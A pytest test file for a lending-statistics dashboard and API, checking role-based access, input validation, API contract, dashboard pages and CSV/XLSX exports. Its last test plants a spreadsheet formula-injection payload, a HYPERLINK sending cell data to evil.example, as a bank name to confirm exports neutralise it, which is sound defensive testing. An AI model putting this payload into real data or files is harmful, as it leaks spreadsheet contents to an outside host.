"""Who reads what, on the web and through the API: the office and the operator everything,
a bank only its own figures, an enterprise nothing."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete as sa_delete
from sqlalchemy import func, select

from app.auth.models import Role
from app.extensions import db
from app.stats.api import Indicators, StatsSummary
from tests.api.documented import documented


@pytest.fixture(autouse=True)
def _setup(lending, one_enterprise_enough):
    return lending


PERIOD = "from=2025-01&to=2025-03"


@pytest.mark.parametrize("role", [Role.REGULATOR, Role.ADMIN])
def test_office_and_operator_see_every_bank(role, api, factories):
    token = factories.token(factories.user(role))
    db.session.commit()
    body = api.get(f"/api/v1/stats/summary?group_by=bank&{PERIOD}", token=token).get_json()
    assert {row["key"] for row in body["rows"]} == {"STBA", "STBB", None}
    assert body["totals"]["demand_amount"] == "1100000.00"
    indicators = api.get("/api/v1/stats/indicators", token=token)
    assert indicators.status_code == 200 and indicators.get_json()["enterprises"] >= 5
    assert datetime.fromisoformat(indicators.get_json()["as_of"]).tzinfo is not None


@pytest.mark.parametrize("role", [Role.BANK_OFFICER, Role.BANK_ADMIN])
def test_bank_sees_only_its_own(role, api, factories, lending):
    token = factories.token(factories.user(role, bank=lending.banks["BB"]))
    db.session.commit()
    for group_by in ("bank", "month", "product", "city"):
        body = api.get(f"/api/v1/stats/summary?group_by={group_by}&{PERIOD}", token=token)
        data = body.get_json()
        assert data["filters"]["bank"] == "STBB"
        # BB: apps 4 (picked-up open demand) and 6 only
        assert data["totals"]["demand_amount"] == "200000.00", group_by
    rows = api.get(f"/api/v1/stats/summary?group_by=bank&{PERIOD}", token=token).get_json()["rows"]
    assert [row["key"] for row in rows] == ["STBB"]  # no other bank, no cross-bank breakdown
    other = api.get(f"/api/v1/stats/summary?group_by=month&bank=STBA&{PERIOD}", token=token)
    assert other.status_code == 403 and other.get_json()["error"]["code"] == "other_bank"
    assert api.get("/api/v1/stats/indicators", token=token).status_code == 403


def test_enterprise_is_refused(api, factories, login_as):
    token = factories.token(factories.user(Role.ENTERPRISE))
    db.session.commit()
    response = api.get("/api/v1/stats/summary", token=token)
    assert response.status_code == 403 and response.get_json()["error"]["code"] == "wrong_role"
    assert api.get("/api/v1/stats/summary").status_code == 401
    web, _user = login_as(Role.ENTERPRISE)
    for path in ("/stats", "/stats/export.csv", "/stats/export.xlsx"):
        assert web.get(path).status_code == 403


def test_anonymous_web_is_sent_to_login(web):
    response = web.get("/stats")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize(
    ("query", "field"),
    [("group_by=colour", "group_by"), ("from=2025-13", "from"), ("to=25-01", "to"),
     ("from=2025-03&to=2025-01", "from"), ("to=2099-01", "to"), ("place=999999", "place"),
     ("industry=ZZ", "industry"), ("bank=NOPE", "bank"), ("product_type=cash", "product_type")],
)  # fmt: skip
def test_bad_arguments_name_the_field(api, factories, query, field):
    token = factories.token(factories.user(Role.REGULATOR))
    db.session.commit()
    response = api.get(f"/api/v1/stats/summary?{query}", token=token)
    assert response.status_code == 422
    assert response.get_json()["error"]["field"] == field


def test_api_contract_and_openapi(api, factories):
    token = factories.token(factories.user(Role.REGULATOR))
    db.session.commit()
    body = api.get(f"/api/v1/stats/summary?group_by=industry&{PERIOD}", token=token).get_json()
    assert body["group_by"] == "section" and body["from"] == "2025-01" and body["to"] == "2025-03"
    row = body["rows"][0]
    for name in ("demand_count", "demand_amount", "approved", "disbursed_count",
                 "disbursed_amount", "first_loans", "credit_share", "median_days_to_accept",
                 "median_days_to_disburse", "suppressed", "label", "key"):  # fmt: skip
        assert name in row
    assert isinstance(body["totals"]["disbursed_amount"], str)
    documented(api, "/api/v1/stats/summary", StatsSummary, body)
    spec = api.get("/api/v1/openapi.json").get_json()
    summary = spec["paths"]["/api/v1/stats/summary"]["get"]
    assert set(summary["x-roles"]) == {"regulator", "admin", "bank_officer", "bank_admin"}
    assert {p["name"] for p in summary["parameters"]} >= {"group_by", "from", "to", "place"}


@pytest.mark.parametrize("group_by", ["month", "product", "county"])
def test_every_grouping_answers_as_documented(api, factories, group_by):
    """Rows by product name their bank; rows withheld are null: both as the model says."""
    token = factories.token(factories.user(Role.REGULATOR))
    db.session.commit()
    response = api.get(f"/api/v1/stats/summary?group_by={group_by}&{PERIOD}", token=token)
    assert response.status_code == 200
    documented(api, "/api/v1/stats/summary", StatsSummary, response.get_json())


def test_indicators_answer_as_documented(api, factories):
    token = factories.token(factories.user(Role.REGULATOR))
    db.session.commit()
    body = api.get("/api/v1/stats/indicators", token=token).get_json()
    documented(api, "/api/v1/stats/indicators", Indicators, body)


@pytest.mark.parametrize(
    ("query", "fields"),
    [("group_by=colour", {"group_by"}), ("product_type=cash&group_by=x", {"product_type",
     "group_by"})],
)  # fmt: skip
def test_a_value_outside_a_closed_set_is_refused_by_the_query_model(api, factories, query, fields):
    token = factories.token(factories.user(Role.REGULATOR))
    db.session.commit()
    error = api.get(f"/api/v1/stats/summary?{query}", token=token).get_json()["error"]
    assert error["code"] == "validation_failed" and set(error["fields"]) == fields


def test_a_wrong_period_keeps_the_filters_and_marks_the_fields(login_as):
    """`from` after `to` used to give a bare 422 page that dropped every filter: now the
    dashboard shows (for the default period), with what was typed kept and both month fields
    marked; a wrong bank is marked on its own field, the other filters still applied."""
    web, _user = login_as(Role.REGULATOR)
    response = web.get("/stats?from=2025-03&to=2025-01&place=610100&group_by=county")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "起始月份不能晚于结束月份" in page and 'id="stats-filters"' in page
    assert 'name="from" value="2025-03" aria-invalid="true"' in page
    assert 'name="to" value="2025-01"' in page
    assert 'value="610100" selected' in page and 'value="county" selected' in page
    assert page.count("has-error") == 2 and 'data-stats-chart="trend"' in page
    response = web.get(f"/stats?bank=NOPE&place=610100&{PERIOD}")
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and "银行不存在" in page
    assert 'name="from" value="2025-01"' in page and 'value="610100" selected' in page
    assert page.count("has-error") == 1


@pytest.mark.parametrize("role", [Role.REGULATOR, Role.ADMIN])
def test_dashboard_for_the_office(role, login_as):
    web, _user = login_as(role)
    page = web.get(f"/stats?group_by=city&{PERIOD}").get_data(as_text=True)
    assert "融资统计" in page and 'data-stats-chart="trend"' in page
    assert "西安市" in page and "宝鸡市" in page and "数据指标" in page
    assert "记录数：纳税记录" in page and "记录数：tax_payments" not in page  # sources by name
    assert "stats-charts.js" in page and "vendor/echarts/echarts.min.js" in page
    # the quarter's totals as the KPI cards show them (tests/stats/test_figures.py)
    assert "¥1,100,000.00" in page and "66.7%" in page and "80.0%" in page
    assert "统计于" in page  # when the data indicators were counted
    # drill-down: the city links to its counties
    assert "group_by=county" in page and "place=610100" in page
    home = web.get("/").get_data(as_text=True)
    assert 'href="/stats"' in home  # the nav entry


@pytest.mark.parametrize("role", [Role.BANK_OFFICER, Role.BANK_ADMIN])
def test_dashboard_for_a_bank(role, login_as, lending):
    web, _user = login_as(role, bank=lending.banks["BB"])
    page = web.get(f"/stats?group_by=bank&{PERIOD}").get_data(as_text=True)
    assert "统计乙银行" in page and "统计甲银行" not in page and "数据指标" not in page
    assert 'name="bank"' not in page  # no bank choice for a bank
    refused = web.get(f"/stats?bank=STBA&{PERIOD}")
    assert refused.status_code == 403


def test_exports_follow_the_view(login_as):
    web, _user = login_as(Role.REGULATOR)
    csv = web.get(f"/stats/export.csv?group_by=city&{PERIOD}")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    text = csv.get_data(as_text=True).lstrip("\ufeff").splitlines()
    # the filters in words above the table, then the table as before
    assert text[0] == "期间,2025-01 — 2025-03" and "所在地区,全省" in text
    blank = text.index("")
    assert text[blank + 1].startswith("分组,需求笔数,需求金额")
    assert text[blank + 2].startswith("西安市,6,900000.00")
    assert text[-1].startswith("合计,9,1100000.00")
    xlsx = web.get(f"/stats/export.xlsx?group_by=city&place=610100&{PERIOD}")
    assert "spreadsheetml" in xlsx.mimetype
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    column_a = [c.value for c in sheet["A"]]
    assert column_a[0] == "融资统计" and sheet["B2"].value == "2025-01 — 2025-03"
    assert [sheet.cell(row=column_a.index("所在地区") + 1, column=c).value
                                 for c in (1, 2)] == ["所在地区", "西安市"]  # fmt: skip
    top = len(column_a) - column_a[::-1].index("分组") + 1  # the table's first group
    assert sheet.cell(row=top, column=1).value == "西安市"
    amount = sheet.cell(row=top, column=3)
    assert (
        amount.value == 900000 and amount.number_format == "#,##0.00"
    )  # a number, shown 900,000.00
    rates = [c for c in sheet[top] if c.number_format == "0.0%"]
    assert rates and all(0 <= (c.value or 0) <= 1 for c in rates)
    assert sheet.cell(row=sheet.max_row, column=1).value == "合计"
    # columns as wide as their contents: the Chinese headers are not cut off
    assert sheet.column_dimensions["C"].width >= len("需求金额（元）") * 2


def test_data_indicators_count_records_and_authorizations_in_force(factories):
    """Deltas against what the fixture holds: two enterprises, one tax rating, one collection
    authorization in force and one lapsed (not counted) — shown once the scheduler's job has
    counted them again."""
    from datetime import timedelta

    from app.clock import utcnow
    from app.consent import services as consent
    from app.ingest.models import TaxRating
    from app.stats import services
    from app.stats.tasks import count_data_indicators

    office = factories.user(Role.REGULATOR)
    count_data_indicators()
    before = services.data_indicators(office)
    current, lapsed = factories.enterprise(), factories.enterprise()
    db.session.add(TaxRating(uscc=current.uscc, batch_id=0, year=2025, grade="A"))
    text = consent.current_text("collection")
    consent.grant_collection(current.id, ["tax_ratings"], user_id=None, ip=None, text_id=text.id)
    consent.grant_collection(lapsed.id, ["tax_ratings"], user_id=None, ip=None, text_id=text.id,
                             days=1, now=utcnow() - timedelta(days=3))  # fmt: skip
    db.session.flush()
    assert services.data_indicators(office) == before  # as last counted
    count_data_indicators()
    after = services.data_indicators(office)
    assert after["as_of"] >= before["as_of"]
    assert after["enterprises"] - before["enterprises"] == 2
    assert after["records"]["tax_ratings"] - before["records"]["tax_ratings"] == 1
    assert after["records"]["tax_payments"] == before["records"]["tax_payments"]
    assert (after["enterprises_with_collection_authorization"]
            - before["enterprises_with_collection_authorization"]) == 1  # fmt: skip


def test_data_indicators_before_the_first_count_are_counted_not_stored(factories):
    from app.stats import services
    from app.stats.models import StatsIndicator

    db.session.execute(sa_delete(StatsIndicator))
    factories.enterprise()
    shown = services.data_indicators(factories.user(Role.ADMIN))
    assert shown["enterprises"] >= 1 and shown["as_of"]
    # the scheduler's job is the only writer: two first views cannot race on the rows
    assert db.session.scalar(select(func.count()).select_from(StatsIndicator)) == 0
    services.count_indicators()
    assert (
        services.data_indicators(factories.user(Role.ADMIN))["enterprises"] == shown["enterprises"]
    )
    stored = db.session.scalar(select(func.count()).select_from(StatsIndicator))
    assert stored == len(services.SOURCES) + 2  # and verified, authorized


def test_exports_neutralise_names_a_spreadsheet_would_run(login_as, lending):
    """A bank's name is chosen by the bank: the office's export shows it as text, never as a
    live formula (both files go through the one spreadsheet writer)."""
    lending.banks["BA"].name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    db.session.flush()
    web, _user = login_as(Role.REGULATOR)
    csv = web.get(f"/stats/export.csv?group_by=bank&{PERIOD}").get_data(as_text=True)
    assert "\n'=HYPERLINK" in csv.replace('"', "") and "\n=HYPERLINK" not in csv
    xlsx = web.get(f"/stats/export.xlsx?group_by=bank&{PERIOD}")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    labels = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
    evil = [c for c in labels if "HYPERLINK" in str(c.value)]
    assert evil and all(c.data_type == "s" and c.value.startswith("'=") for c in evil)
    assert sheet["C2"].data_type == "n"  # figures stay numbers
